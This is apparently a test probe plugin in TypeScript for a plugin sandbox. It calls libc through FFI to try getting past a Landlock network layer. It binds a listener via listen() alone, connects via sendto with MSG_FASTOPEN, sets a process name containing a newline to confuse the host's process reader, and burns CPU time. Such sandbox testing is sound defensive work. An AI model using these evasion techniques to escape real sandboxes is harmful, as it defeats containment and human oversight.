// Review: native code (an acknowledged ffi grant) under the Landlock layer
// tries the TCP paths Landlock's connect and bind rules do not see: a
// listening socket bound by listen() itself (no bind call), a connection
// made by sendto(MSG_FASTOPEN) (no connect call), and a process name with a
// newline (prctl), which the host's process reader cannot parse.
import { implement, serve } from "@plugbox/plugbox/plugin";
import { Probe } from "./probe.ts";
import { ERRNO_SYMBOLS, errnoReader } from "./_errno.ts";

const MSG_FASTOPEN = 0x20000000;
const PR_SET_NAME = 15;
/** A struct sockaddr_in. */
function sockaddr(host: string, port: number): Uint8Array {
  const address = new Uint8Array(16);
  address[0] = 2;
  address[2] = port >> 8;
  address[3] = port & 0xff;
  address.set(host.split(".").map(Number), 4);
  return address;
}

const held: number[] = []; // listeners kept open

function attack(what = ""): string {
  const [kind, target = "", libcPath = "/lib/x86_64-linux-gnu/libc.so.6"] = what.split(" ");
  const libc = Deno.dlopen(libcPath, {
    socket: { parameters: ["i32", "i32", "i32"], result: "i32" },
    listen: { parameters: ["i32", "i32"], result: "i32" },
    getsockname: { parameters: ["i32", "buffer", "buffer"], result: "i32" },
    sendto: {
      parameters: ["i32", "buffer", "usize", "i32", "buffer", "u32"],
      result: "isize",
    },
    prctl: { parameters: ["i32", "buffer", "u64", "u64", "u64"], result: "i32" },
    clock: { parameters: [], result: "i64" },
    connect: { parameters: ["i32", "buffer", "u32"], result: "i32" },
    write: { parameters: ["i32", "buffer", "usize"], result: "isize" },
    ...ERRNO_SYMBOLS,
  });
  const c = libc.symbols;
  const errno = errnoReader(c);
  try {
    switch (kind) {
      case "listen": { // listen() binds an ephemeral port itself: no bind() for Landlock to see
        const fd = c.socket(2, 1, 0);
        if (fd < 0) return `socket: errno ${errno()}`;
        if (c.listen(fd, 8) < 0) return `listen: errno ${errno()}`;
        held.push(fd); // kept open: the listener stays
        const address = new Uint8Array(16);
        const size = new Uint32Array([16]);
        c.getsockname(fd, address, new Uint8Array(size.buffer));
        return `listening on port ${(address[2] << 8) | address[3]}`;
      }
      case "connect": { // a plain connect(): Landlock's rule is a port, on any address
        const [host, port] = target.split(":");
        const fd = c.socket(2, 1, 0);
        if (fd < 0) return `socket: errno ${errno()}`;
        if (c.connect(fd, sockaddr(host, Number(port)), 16) < 0) return `connect: errno ${errno()}`;
        const data = new TextEncoder().encode("GET /past-the-proxy HTTP/1.0\r\n\r\n");
        c.write(fd, data, BigInt(data.length));
        return "connected";
      }
      case "fastopen": { // connect and send in one call: no connect() for Landlock to see
        const [host, port] = target.split(":");
        const fd = c.socket(2, 1, 0);
        if (fd < 0) return `socket: errno ${errno()}`;
        const address = sockaddr(host, Number(port));
        const data = new TextEncoder().encode("GET /fastopen HTTP/1.0\r\n\r\n");
        const sent = c.sendto(fd, data, BigInt(data.length), MSG_FASTOPEN, address, 16);
        return Number(sent) < 0 ? `sendto: errno ${errno()}` : `sent ${sent}`;
      }
      case "rename": // a process name holding a newline
        return c.prctl(PR_SET_NAME, new TextEncoder().encode("x\ny\0"), 0n, 0n, 0n) < 0
          ? `prctl: errno ${errno()}`
          : "renamed";
      case "burn": { // until the process has used `target` ms of CPU time (clock(): all threads)
        let x = 0;
        while (Number(c.clock()) / 1000 < Number(target)) {
          for (let i = 0; i < 1e6; i++) x = (x + i) | 0;
        }
        return `burned to ${target} ms of CPU`;
      }
    }
    return `unknown attempt ${kind}`;
  } finally {
    libc.close();
  }
}

await serve(implement(Probe, { attempt: attack }));
